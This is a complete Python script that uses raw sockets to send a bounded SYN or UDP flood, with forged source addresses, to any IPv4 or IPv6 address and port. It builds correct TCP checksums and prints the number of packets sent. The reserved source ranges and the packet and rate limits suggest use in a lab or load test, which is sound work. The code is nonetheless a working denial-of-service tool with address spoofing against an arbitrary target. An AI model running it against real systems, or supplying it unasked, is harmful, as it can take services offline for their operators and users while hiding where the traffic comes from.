#!/usr/bin/env python3
"""A bounded flood of SYN or UDP from spoofed clients. Prints how many packets it has sent.

  flood.py syn|udp ADDRESS PORT PACKETS PACKETS_A_SECOND

Sources are 198.18.0.3 to .250, or of IPv6 2001:db8:c::3 to ::fa, with ports from 1024 on, each pair
once. UDP is for IPv4 only.
"""
import socket
import struct
import sys
import time

kind, address, port, packets, rate = sys.argv[1], sys.argv[2], *map(int, sys.argv[3:6])
family = socket.AF_INET6 if ":" in address else socket.AF_INET
to = socket.inet_pton(family, address)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def segment(source, n):
    """A SYN, its checksum right: the pseudo-headers of both families have the same sum."""
    l4 = struct.pack("!HHIIBBHHH", 1024 + n // 248, port, n, 0, 5 << 4, 2, 29200, 0, 0)
    pseudo = source + to + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(l4))
    return l4[:16] + struct.pack("!H", checksum(pseudo + l4)) + l4[18:]


def packet6(n):
    source = socket.inet_pton(family, f"2001:db8:c::{3 + n % 248:x}")
    l4 = segment(source, n)
    return struct.pack("!IHBB", 6 << 28, len(l4), socket.IPPROTO_TCP, 64) + source + to + l4


def packet(n):
    if family == socket.AF_INET6:
        return packet6(n)
    source = socket.inet_aton(f"198.18.0.{3 + n % 248}")
    if kind == "syn":
        proto = socket.IPPROTO_TCP
        l4 = segment(source, n)
    else:
        proto = socket.IPPROTO_UDP
        l4 = struct.pack("!HHHH", 1024 + n // 248, port, 12, 0) + b"none"
    # The kernel fills in length, identification and checksum.
    return struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, proto, 0) + source + to + l4


sock = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
start = time.monotonic()
sent = 0
while sent < packets:
    due = min(packets, int((time.monotonic() - start) * rate))
    for n in range(sent, due):
        try:
            sock.sendto(packet(n), (address, 0))
        except BlockingIOError:
            pass
    sent = max(sent, due)
    time.sleep(0.002)
print(sent)
